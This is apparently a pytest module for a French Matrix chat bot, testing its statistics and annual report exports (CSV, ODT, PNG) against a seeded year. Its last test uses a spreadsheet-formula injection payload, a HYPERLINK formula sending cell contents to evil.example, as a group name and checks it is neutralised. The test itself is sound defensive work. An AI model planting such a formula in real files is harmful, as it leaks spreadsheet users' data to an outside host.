"""``!stats``, ``!bilan`` and ``cct-bot export bilan`` on a seeded year: exact figures, CSV
readable by the csv module, a valid PNG, the same files from the chat and the command line."""

from __future__ import annotations

import asyncio
import csv
import io
import stat
import struct
import threading
import zipfile
from collections.abc import Mapping
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from odf import table, teletype
from odf.opendocument import load

from bot.batch import Command
from bot.cli import export_to
from bot.dispatcher import Taken
from commands import build_registry
from commands.exports import ExportRun
from commands.i18n import Translator
from commands.reports import handlers
from commands.reports.content import gather
from commands.reports.files import report_files
from storage.db import Database
from storage.repositories import Repositories
from tests.handlers.conftest import COORDINATOR, ROOM, Harness, make_club
from tests.handlers.conftest import both_db as db  # noqa: F401  (SQLite and PostgreSQL)
from tests.handlers.seed_year import EXPECTED, PARIS, YEAR, seed
from tests.report_facts import year_facts, year_period

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def png_size(data: bytes) -> tuple[int, int]:
    assert data[:8] == PNG_SIGNATURE
    assert data[12:16] == b"IHDR"
    width, height = struct.unpack(">II", data[16:24])
    assert data[-8:-4] == b"IEND"
    return width, height


async def export_bilan(bot: Harness, year: int, directory: Path, club_name: str) -> list[Path]:
    """``cct-bot export bilan``'s files, written as the command line writes them."""
    [bilan] = [export for export in build_registry().exports if export.name == "bilan"]
    club = replace(bot.dispatcher.club, name=club_name, timezone=str(PARIS))
    return await export_to(bot.db, bilan, ExportRun(club, Translator("fr"), bot.clock.now(),
                                                    "all", year), directory)


async def test_the_figures_of_a_seeded_year_are_exact(bot: Harness) -> None:
    await seed(bot.db)
    async with bot.db.transaction() as repos:
        figures = await year_facts(repos, YEAR, PARIS)
        whole = await gather(repos, year_period(YEAR), PARIS)
        quick = await gather(repos, year_period(YEAR), PARIS, detailed=False)  # !stats reads
    # !stats does without what no indicator counts: the groups one by one, their notes and
    # needs met; it counts them by status as the report does.
    assert quick == replace(whole, progress=(), needs_met=(), groups=())
    assert whole.group_statuses == {"archive": 1, "en-cours": 1, "idee": 1}  # not 2027's
    for name, value in EXPECTED.items():
        assert getattr(figures, name) == value, name
    assert [m.attendance for m in figures.meetings] == [45, 60, 0, 10]
    assert [m.rsvps for m in figures.meetings] == [0, 0, 0, 5]
    assert [g.members for g in figures.groups] == [21, 10, 0]
    assert len(figures.cumulative) == 12
    assert figures.cumulative[-1] == 201  # everyone by the end of December (with 2025's)
    assert figures.cumulative[0] == 1 + 13  # @old, then p000, p012 … p144 touched in January
    assert list(figures.cumulative) == sorted(figures.cumulative)


async def test_a_rencontres_attendance_counts_its_guests_and_headcounts(bot: Harness) -> None:
    await seed(bot.db)
    async with bot.db.transaction() as repos:
        first = (await year_facts(repos, YEAR, PARIS)).meetings[0]
        await repos.attendance.set_headcount(first.id, "nord", {"elus": 8, "habitants": 14},
                                             first.starts_at)
        await repos.attendance.add_guests(first.id, [("Jeanne M.", "habitants", "nord")],
                                          first.starts_at)
    async with bot.db.transaction() as repos:
        figures = await year_facts(repos, YEAR, PARIS)
    assert [m.attendance for m in figures.meetings] == [45 + 22 + 1, 60, 0, 10]


async def test_stats_for_coordinators(bot: Harness) -> None:
    await seed(bot.db)
    reply = await bot.reply_to(f"!stats {YEAR}", sender=COORDINATOR)
    assert "Participants : 200 cette année, 201 au total (200 nouveaux)" in reply
    assert "3 tenues, 115 présences, 85 personnes venues au moins une fois" in reply
    assert "Par territoire : nord 60, sud 40, non renseigné 100" in reply
    assert "Par catégorie : élu·e 10, habitant·e 30, non renseigné 160" in reply
    assert "Groupes-projets actifs : 2 (en cours 1, idée 1)" in reply
    assert "ordre du jour : 3 (2 retenues)" in reply
    assert "Remontées aux élus : 2 (1 avec réponse)" in reply


async def test_stats_and_bilan_are_for_coordinators_only(bot: Harness) -> None:
    for command in ("!stats", "!bilan 2026"):
        reply = await bot.reply_to(command)
        assert "coordin" in reply.lower(), reply


async def test_bilan_rejects_a_future_year(bot: Harness) -> None:
    reply = await bot.reply_to("!bilan 3000", sender=COORDINATOR)
    assert "La période doit commencer entre le 1er janvier 2000 et aujourd'hui" in reply
    assert "pas le 3000-01-01" in reply


@pytest.mark.parametrize(("body", "words"), [
    ("!stats 0000", "pas le 0000-01-01"),
    ("!bilan 1999", "pas le 1999-01-01"),
    ("!stats --du 2020-01-01 --au 9999-12-31", "finir au plus tard le 2104-12-31"),
    ("!bilan --du 2000-01-01 --au 2300-12-31", "finir au plus tard le 2104-12-31"),
])
async def test_a_period_out_of_bounds_is_refused_with_the_usage(bot: Harness, body: str,
                                                                 words: str) -> None:
    """Year 0 and a last day of 9999 were internal errors; a period of three centuries made
    !bilan write its figures year by year for 40 s, the bot's loop and database held."""
    sent = await bot.command(body, sender=COORDINATOR)
    assert len(sent) == 1 and not sent[0].content.get("url")  # no file: nothing was run
    reply = sent[0].content["body"]
    assert words in reply, reply
    assert "Usage" in reply


async def test_bilan_writes_its_files_away_from_the_event_loop(
        bot: Harness, monkeypatch: pytest.MonkeyPatch) -> None:
    """The charts and the document take seconds of CPU: written in the loop's thread, they
    held the sync and every other room's commands that long."""
    threads: list[threading.Thread] = []

    def watched(*args: Any, **kwargs: Any) -> dict[str, bytes]:
        threads.append(threading.current_thread())
        return report_files(*args, **kwargs)

    monkeypatch.setattr(handlers, "report_files", watched)
    sent = await bot.command("!bilan 2098", sender=COORDINATOR)
    assert len(threads) == 1 and threads[0] is not threading.main_thread()
    assert sum(1 for s in sent if s.content.get("url")) == len(files_of(2098))


def spreadsheet_rows(data: bytes) -> list[list[str]]:
    """A CSV of the report as a French spreadsheet reads it: UTF-8 with a BOM, ``;``."""
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def by_first_cell(data: bytes) -> dict[str, list[str]]:
    return {row[0]: row[1:] for row in spreadsheet_rows(data)[1:]}


def odt_tables(data: bytes) -> dict[str, list[list[str]]]:
    """The tables of an .odt read back with odfpy, by name, as rows of cell texts."""
    document = load(io.BytesIO(data))
    found = {}
    for element in document.getElementsByType(table.Table):
        rows = [[teletype.extractText(cell) for cell in row.getElementsByType(table.TableCell)]
                for row in element.getElementsByType(table.TableRow)]
        found[str(element.getAttribute("name"))] = rows
    return found


def files_of(year: int) -> list[str]:
    stem = f"bilan-{year}"
    return [f"{stem}.odt",
            *(f"{stem}-{key}.csv" for key in TABLES),
            *(f"{stem}-{key}.png" for key in ("presences", "categories", "territoires", "groupes"))]


TABLES = ("indicateurs", "evenements", "groupes", "actions", "remontees", "financements",
          "presences-categories", "presences-territoires", "annees")


async def test_bilan_uploads_the_report_and_the_cli_writes_the_same(bot: Harness,
                                                                    tmp_path: Path) -> None:
    await seed(bot.db)
    sent = await bot.command(f"!bilan {YEAR}", sender=COORDINATOR)
    summary, *files = sent
    assert "- Participants (membres du club) : 200" in summary.content["body"]
    assert f"les {len(files_of(YEAR))} fichiers du bilan" in summary.content["body"]
    uploaded = {s.content["body"]: data for s, (data, _mime, _name) in
                zip(files, bot.transport.uploads, strict=True)}
    assert sorted(uploaded) == sorted(files_of(YEAR))
    assert all(s.content["url"].startswith("mxc://") for s in files)
    # The charts are pictures Element shows inline, with their size; the rest are files.
    assert {s.content["body"]: s.content["msgtype"] for s in files} == {
        name: "m.image" if name.endswith(".png") else "m.file" for name in files_of(YEAR)}
    for s in files:
        if s.content["msgtype"] == "m.image":
            data = uploaded[s.content["body"]]
            assert s.content["info"] == {"mimetype": "image/png", "size": len(data),
                                         "w": 1200, "h": 675}, s.content["body"]
    kinds = {s.content["body"].rsplit(".", 1)[1]: s.content["info"]["mimetype"] for s in files}
    assert kinds == {"odt": "application/vnd.oasis.opendocument.text", "csv": "text/csv",
                     "png": "image/png"}

    indicators = by_first_cell(uploaded[f"bilan-{YEAR}-indicateurs.csv"])
    for label, name in (("Participants (membres du club)", "participants_year"),
                        ("Nouveaux participants", "new_participants"),
                        ("Événements tenus (tous types)", "meetings_held"),
                        ("Présences aux événements", "attendance_total"),
                        ("Groupes-projets actifs", "active_groups")):
        assert indicators[label][0] == str(EXPECTED[name]), label
    assert indicators["Rencontres du club tenues"][:3] == ["3", "3", "100"]
    territories = by_first_cell(uploaded[f"bilan-{YEAR}-presences-territoires.csv"])
    assert {k: int(v[1]) for k, v in territories.items()} == {
        "nord": 60, "sud": 40, "non renseigné": 100}
    events = spreadsheet_rows(uploaded[f"bilan-{YEAR}-evenements.csv"])[1:]
    assert [int(e[-1]) for e in events] == [45, 60, 0, 10]
    assert [e[5] for e in events] == ["tenue", "tenue", "annulée", "tenue"]
    groups = spreadsheet_rows(uploaded[f"bilan-{YEAR}-groupes.csv"])[1:]
    assert [(g[2], int(g[4])) for g in groups] == [("en cours", 21), ("idée", 10)]
    for name in files_of(YEAR):
        if name.endswith(".png"):
            assert png_size(uploaded[name]) == (1200, 675), name
    tables = odt_tables(uploaded[f"bilan-{YEAR}.odt"])
    assert len(tables) >= len(TABLES)
    summary_table = next(rows for rows in tables.values()
                         if rows and rows[0][:2] == ["indicateur", "réalisé"])
    assert ["Participants (membres du club)", "200", "", "", ""] in summary_table, summary_table

    written = await export_bilan(bot, YEAR, tmp_path / "out", "Club Climat et Transition")
    assert sorted(p.name for p in written) == sorted(uploaded)
    for path in written:
        if path.suffix == ".csv":
            assert path.read_bytes() == uploaded[path.name], path.name
        elif path.suffix == ".odt":
            assert odt_tables(path.read_bytes()) == tables
        else:
            assert png_size(path.read_bytes()) == (1200, 675)
    # The outbox keeps the files until sent (base64): nothing else is needed to send them.
    async with bot.db.transaction() as repos:
        pending = await repos.outbox.pending()
    assert not pending


async def test_the_command_line_export(tmp_path: Path) -> None:
    from bot.cli import main

    config = tmp_path / "config.toml"
    config.write_text('[matrix]\nhomeserver = "http://127.0.0.1:1"\nuser_id = "@b:localhost"\n'
                      'password = "x"\n[rooms]\nmain = "#cct:localhost"\n', encoding="utf-8")
    config.chmod(0o600)  # it holds a password
    (tmp_path / "data").mkdir()
    database = Database(f"sqlite+aiosqlite:///{tmp_path / 'data' / 'cct.db'}")
    await database.upgrade()
    await seed(database)
    await database.dispose()
    out = tmp_path / "bilan"
    out.mkdir()
    stale = out / f"bilan-{YEAR}.odt"
    stale.write_text("ancien", encoding="utf-8")
    stale.chmod(0o644)  # a file left there, readable by all: corrected before it is written
    code = await asyncio.to_thread(main, ["export", "bilan", "--annee", str(YEAR), "--dir",
                                          str(out), "--config", str(config)])
    assert code == 0
    assert sorted(path.name for path in out.iterdir()) == sorted(files_of(YEAR))
    assert {stat.S_IMODE(path.stat().st_mode) for path in out.iterdir()} == {0o600}
    assert zipfile.is_zipfile(stale)
    indicators = by_first_cell((out / f"bilan-{YEAR}-indicateurs.csv").read_bytes())
    assert indicators["Participants (membres du club)"][0] == "200"
    assert png_size((out / f"bilan-{YEAR}-presences.png").read_bytes()) == (1200, 675)


async def taken_with_batch(bot: Harness, body: str) -> Taken:
    """A lone command handed to the dispatcher as the sync does, in its batch's transaction."""
    command = Command(f"$lone-{len(body)}", ROOM, COORDINATOR, body, bot.clock.now())
    run_here = bot.dispatcher.runs_with_batch([command])
    async with bot.db.transaction() as repos:
        assert await repos.inbox.add_if_new(
            event_id=command.event_id, room_id=command.room_id, sender=command.sender,
            body=command.body, sent_at=command.sent_at, received_at=bot.clock.now(),
            handled_at=bot.clock.now() if run_here else None, thread_root=None)
        return await bot.dispatcher.take(repos, [command], run_here)


async def test_the_bilan_never_runs_in_its_sync_batchs_transaction(bot: Harness) -> None:
    """A lone command runs in the transaction that saves its sync batch, but not !bilan: the
    sync, and every other room with it, would wait the seconds its files take."""
    await seed(bot.db)
    ping = await taken_with_batch(bot, "!ping")
    assert len(ping.handled) == 1 and not ping.later  # run with its batch
    await ping.start()
    bilan = await taken_with_batch(bot, f"!bilan {YEAR}")
    assert not bilan.handled and [c.body for c in bilan.later] == [f"!bilan {YEAR}"]
    await asyncio.gather(*await bilan.start())  # in a transaction of its own, once committed
    await bot.outbox.flush()
    assert sorted(name for _data, _mime, name in bot.transport.uploads) == sorted(files_of(YEAR))


@pytest.mark.parametrize("arrival", ["batch", "restart"])
async def test_the_bilan_renders_before_its_transaction(bot: Harness, arrival: str,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """!bilan reads and renders in a read-only transaction, then queues its reply and files in
    a short one: while its files render, the bot's other writes go on (on SQLite they waited
    for its write lock). Come with a sync batch, or queued when the bot stopped."""
    await seed(bot.db)
    rendering, go = threading.Event(), threading.Event()
    render = handlers._rendered

    def held(document: Any, t: Translator) -> dict[str, bytes]:
        rendering.set()
        go.wait(60)
        return render(document, t)

    monkeypatch.setattr(handlers, "_rendered", held)
    if arrival == "batch":
        [task] = await (await taken_with_batch(bot, f"!bilan {YEAR}")).start()
    else:
        await bot.queue(f"!bilan {YEAR}", sender=COORDINATOR)
        assert await bot.dispatcher.resume() == 1
        task = asyncio.ensure_future(bot.dispatcher.drain())
    try:
        assert await asyncio.to_thread(rendering.wait, 60)
        async with asyncio.timeout(5), bot.db.transaction() as repos:
            await repos.state.set("written", "while the bilan renders")
    finally:
        go.set()
    await task
    await bot.outbox.flush()
    assert sorted(name for _data, _mime, name in bot.transport.uploads) == sorted(files_of(YEAR))
    async with bot.db.reading() as repos:
        assert await repos.inbox.pending(10) == []  # handled, once
        assert await repos.state.get("written") == "while the bilan renders"


async def test_an_export_never_holds_the_write_lock(db: Database, both_url: str,  # noqa: F811
                                                   tmp_path: Path) -> None:
    """``cct-bot export bilan`` reads the database while the bot runs (another program): the
    bot's writes never wait for it, however long its files take to render."""
    await seed(db)
    [bilan] = [export for export in build_registry().exports if export.name == "bilan"]
    inside, done = asyncio.Event(), asyncio.Event()

    async def slow(repos: Repositories, run: ExportRun) -> Mapping[str, bytes]:
        files = await bilan.make(repos, run)
        inside.set()  # still in the export's transaction
        await done.wait()
        return files

    club = replace(make_club(), timezone=str(PARIS))
    run = ExportRun(club, Translator("fr"), datetime(YEAR + 1, 3, 1, tzinfo=UTC), "all", YEAR)
    exporting = asyncio.create_task(export_to(db, replace(bilan, make=slow), run, tmp_path))
    await asyncio.wait_for(inside.wait(), 60)
    the_bot = Database(both_url)
    try:
        async with the_bot.transaction(patience=0) as repos:  # StorageBusy if it must wait
            await repos.state.set("written", "during the export")
    finally:
        done.set()
        await the_bot.dispose()
    assert sorted(path.name for path in await exporting) == sorted(files_of(YEAR))


async def test_a_formula_as_a_group_name_is_text_in_the_bilan(bot: Harness, tmp_path: Path) -> None:
    """A group named like a spreadsheet formula: the bilan's CSV (from the chat and the command
    line alike) holds it as text."""
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Voir le bilan")'
    reply = await bot.reply_to(f"!projet creer {formula}")
    assert "créé" in reply, reply
    year = bot.clock.now().year
    written = await export_bilan(bot, year, tmp_path / "out", "CCT")
    groups_csv = next(p for p in written if p.name.endswith("-groupes.csv"))
    names = [row[1] for row in spreadsheet_rows(groups_csv.read_bytes())[1:]]
    assert names == ["'" + formula]
    sent = await bot.command(f"!bilan {year}", sender=COORDINATOR)
    uploaded = {s.content["body"]: data for s, (data, _mime, _name) in
                zip(sent[1:], bot.transport.uploads, strict=True)}
    assert uploaded[groups_csv.name] == groups_csv.read_bytes()
